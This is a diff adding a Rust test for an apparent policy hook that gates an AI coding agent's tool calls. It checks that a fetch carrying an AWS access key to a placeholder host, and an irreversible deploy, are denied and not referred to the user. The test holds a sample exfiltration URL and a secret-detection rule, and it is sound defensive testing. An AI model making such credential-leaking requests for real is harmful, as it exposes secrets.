@@ -293,3 +293,50 @@ fn hook_allows_only_guard_mcps_own_tools_under_its_prefix() {
     assert_eq!(decide("mcp__guard__nosuch"), "deny");
     assert_eq!(decide("mcp__guard__"), "deny");
 }
+
+/// A Claude Code tool named like a policy tool is decided by the policy, but runs inside Claude
+/// Code: a call the policy holds for an admin (quarantine: a secret on its way out; escalate)
+/// must not become a question to Claude Code's user, who is not guard's admin. It is denied.
+#[test]
+fn hook_denies_what_the_policy_holds_for_an_admin() {
+    if !support::privileged("hook_denies_what_the_policy_holds_for_an_admin") {
+        return;
+    }
+    let workspace = open_dir("hook-ws");
+    let guardd = Guardd::start(&format!(
+        r#"{}
+[tools.WebFetch]
+tier = "low"
+command = ["/bin/true"]
+[tools.WebFetch.args.url]
+type = "string"
+[tools.WebFetch.args.prompt]
+type = "string"
+
+[tools.Deploy]
+tier = "high"
+irreversible = true
+command = ["/bin/true"]
+
+[[rules]]
+id = "dlp"
+tools = ["WebFetch"]
+detect = ["aws_access_key"]
+action = "quarantine"
+"#,
+        policy(&workspace.0)
+    ));
+    let decide = |tool: &str, tool_input: Value| {
+        let mut input = bash_input(&workspace.0, "");
+        input["tool_name"] = json!(tool);
+        input["tool_input"] = tool_input;
+        hook(&guardd, &input)["hookSpecificOutput"]["permissionDecision"].clone()
+    };
+    let fetch = |url: &str| json!({"url": url, "prompt": "summarise"});
+    assert_eq!(decide("WebFetch", fetch("https://docs.rs/")), "allow");
+    assert_eq!(
+        decide("WebFetch", fetch("https://x.example/?k=AKIAIOSFODNN7EXAMPLE")),
+        "deny"
+    );
+    assert_eq!(decide("Deploy", json!({})), "deny");
+}
